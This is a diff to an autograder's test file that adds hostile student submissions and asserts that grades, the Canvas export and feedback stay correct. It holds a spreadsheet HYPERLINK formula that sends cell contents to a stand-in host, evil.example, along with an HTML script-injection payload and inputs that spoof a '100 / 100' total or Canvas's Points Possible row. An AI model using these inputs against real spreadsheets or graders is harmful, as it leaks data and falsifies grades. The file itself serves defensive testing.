@@ -24,9 +24,9 @@ from grader.core import engine
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 HTML = "<img src=x onerror=alert(1)>"
 FAKE_TOTAL = "total          100 / 100"
-RAISES_SURROGATE = """
+RAISES_SURROGATE = f"""
 def kv_cache_mask(n_cached, n_new):
-    raise ValueError("bad \\ud800 input")
+    raise ValueError("bad \\ud800 input\\n\\n{FAKE_TOTAL}\\n")
 """
 
 def one_exercise_course(path: Path, exercise: str = "kv_cache") -> Path:
@@ -60,6 +60,12 @@ def build_hostile_class(root: Path) -> None:
         (many / f"empty{i}").touch()
     key_copy(root / FORMULA.replace("/", "|"))  # case 6: a folder named like a formula
     key_copy(root / HTML.replace("/", "|"))
+    # The red team's: two folders whose names once escaped alike (the second's row was lost),
+    # one named for Canvas's Points Possible row, and a helper file too deep for the parser.
+    key_copy(Path(os.fsdecode(bytes(root) + b"/bob\xa0")))
+    key_copy(root / "bob\u00a0", {"kv_cache.py": RAISES_SURROGATE})
+    key_copy(root / "Points Possible", {"kv_cache.py": RAISES_SURROGATE})
+    key_copy(root / "deep-helper", {"helper.py": "x" + ".y" * 200_000 + "\n"})
 
 
 def write_roster(path: Path, root: Path) -> Path:
@@ -68,6 +74,8 @@ def write_roster(path: Path, root: Path) -> Path:
         writer.writerow(["folder", "id", "name", "email"])
         for folder in sorted(os.listdir(root)):
             name = os.fsdecode(folder)
+            if name == "Points Possible":  # not in the roster: Canvas shows its folder name
+                continue
             writer.writerow([name if name.isprintable() else "", "-1+1", FORMULA, "@SUM(A1)"])
     return path
 
@@ -115,6 +123,27 @@ def test_the_run_finishes_and_the_honest_row_and_json_are_untouched(hostile):
         "email": "'@SUM(A1)"}
     assert (base / "out" / "json" / "ada.json").read_bytes() == (
         base / "baseline" / "json" / "ada.json").read_bytes()
+
+
+def test_folders_whose_names_escape_alike_keep_a_row_each(hostile):
+    table = rows(hostile[0] / "out" / "grades.csv")
+    assert table["bob\\xa0"]["total"] == "15"  # the key
+    assert table["bob\\u00a0"]["total"] != "15"  # a kv_cache that raises: its own row
+    assert table["deep-helper"]["total"] == "15"  # a helper nothing imports costs nothing
+
+
+def test_no_student_line_passes_for_canvas_points_possible_row(hostile):
+    with open(hostile[0] / "out" / "canvas.csv", newline="") as handle:
+        first_cells = [line[0] for line in csv.reader(handle)]
+    assert [c for c in first_cells if "Points Possible" in c] == ["    Points Possible"]
+    assert "Points_Possible" in first_cells
+
+
+def test_a_students_message_stays_on_one_line_of_feedback(hostile):
+    results = json.loads((hostile[0] / "out" / "json" / "surrogate.json").read_text())
+    lines = [line for test in results["tests"] for line in test["output"].splitlines()]
+    assert any(FAKE_TOTAL in line for line in lines)
+    assert not any(line.startswith("total") for line in lines)
 
 
 def test_a_folder_name_that_is_not_utf8_gets_its_own_row(hostile):
